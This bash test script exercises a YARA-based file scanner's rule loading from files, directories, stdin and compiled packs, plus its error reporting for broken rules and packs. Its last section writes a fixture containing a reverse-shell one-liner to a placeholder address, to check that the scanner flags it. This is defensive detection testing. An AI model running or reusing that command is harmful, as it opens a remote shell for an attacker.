#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# Rules come from files, directories, standard input and compiled packs; what is broken is named with its line and
# the rest go on.
. "$CSI_TOP/tests/helpers/lib.sh"
mkdir -p tree rules/deep/.hidden
printf 'one needle here' >tree/hay
printf 'rule a { strings: $x = "needle" condition: $x }\n' >rules/a.yar
printf 'rule a { strings: $x = "one" condition: $x }\n' >rules/deep/b.yara
printf 'rule hidden { condition: true }\n' >rules/deep/.hidden/c.yar
printf 'rule readme { condition: true }\n' >rules/README
scan() { run host_csi scan --root tree --json "$@"; }
expect_rules() { expect_json "[.[] | select(.rule) | .rule.ruleset + \":\" + .rule.id] | sort == $1" "rules $1"; }

scan --rules rules
expect_exit 0
expect_gaps
expect_rules '["rules/a.yar:a", "rules/deep/b.yara:a"]'
scan --rules rules/a.yar --rules rules/deep/
expect_rules '["rules/a.yar:a", "rules/deep/b.yara:a"]'
run "$CSI_TOP/out/amd64/csi" scan --root tree --json --rules - <rules/a.yar
expect_rules '["stdin:a"]'

# Broken: a regular expression, a field that is none, a file that is not there any more.
printf '\n\nrule b\n{\n\tstrings:\n\t\t$x = /a[/\n\tcondition:\n\t\t$x\n}\n' >rules/bad.yar
printf 'import "pe"\nrule c { condition: pe.nosuch > 1 }\n' >rules/field.yar
printf 'include "nosuch.yar"\n' >rules/include.yar
ln -s nosuch rules/gone.yar
scan --rules rules
expect_exit 3
expect_rules '["rules/a.yar:a", "rules/deep/b.yara:a"]'
gaps "$OUT" >g
expect_eq "$(wc -l <g)" 4 "gaps: $(cat g)"
expect_grep '^EINVAL\|compile rules\|-\|rules/bad\.yar:6: ' g
expect_grep '^EINVAL\|compile rules\|-\|rules/field\.yar:2: ' g
expect_grep '^EINVAL\|compile rules\|-\|rules/include\.yar:1: ' g
expect_grep '^ENOENT\|compile rules\|-\|rules/gone\.yar$' g
scan --rules rules/bad.yar
expect_exit 1
expect_grep 'no rule is left' "$ERR"
scan --rules nosuch
expect_exit 1
# The module of libyara's own tests is not there.
printf 'import "tests"\nrule t { condition: tests.constants.one == 1 }\n' >tests.yar
scan --rules tests.yar --rules rules/a.yar
expect_exit 3
gaps "$OUT" >g
expect_grep '^EINVAL\|compile rules\|-\|tests\.yar:1: unknown module "tests"' g
expect_rules '["rules/a.yar:a"]'
rm rules/bad.yar rules/field.yar rules/include.yar rules/gone.yar

# Compiled: the same matches; together with sources; never onto what is there, nor a terminal's.
run host_csi scan --compile --rules rules -o pack.yarc
expect_exit 0
scan --rules pack.yarc
expect_exit 0
expect_rules '["rules/a.yar:a", "rules/deep/b.yara:a"]'
run "$CSI_TOP/out/amd64/csi" scan --root tree --json --rules - <pack.yarc
expect_rules '["rules/a.yar:a", "rules/deep/b.yara:a"]'
printf 'rule more { condition: filename == "hay" and extension == "" and filepath == "/hay" }\n' >more.yar
scan --rules pack.yarc --rules more.yar
expect_rules '["more.yar:more", "rules/a.yar:a", "rules/deep/b.yara:a"]'
run host_csi scan --compile --rules rules -o pack.yarc
expect_exit 1
expect_grep 'never overwrites' "$ERR"
run host_csi scan --compile --rules pack.yarc --rules more.yar -o other.yarc
expect_exit 1

# A pack of another version, a cut one, an empty one.
cp pack.yarc old.yarc
printf '\001' | dd of=old.yarc bs=1 seek=4 conv=notrunc status=none
head -c 100 pack.yarc >cut.yarc
printf 'YARA' >none.yarc
scan --rules old.yarc --rules cut.yarc --rules none.yarc --rules more.yar
expect_exit 3
expect_gaps 'EPROTONOSUPPORT|compile rules|-|old.yarc' 'EBADMSG|compile rules|-|cut.yarc' 'EBADMSG|compile rules|-|none.yarc'
expect_rules '["more.yar:more"]'

# More memory than is allowed is an error and not a larger csi.
python3 "$HELPERS/make_rules.py" 4000 3 /bin/bash >many.yar
run host_csi scan --root tree --rules many.yar --rules-memory 13M
expect_exit 1
expect_grep 'cannot load rules: out of memory .*--rules-memory' "$ERR"

# What is in the program works from it alone, on any machine.
printf '#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n' >tree/rev
run host_csi scan --root tree
expect_exit 0
expect_grep '^high +reverse_shell_text +file +- +0xa +/rev$'
expect_grep '^ +\$bash1 at 0xa: bash -i >& /dev/tcp/192\.0\.2\.1/4444$'
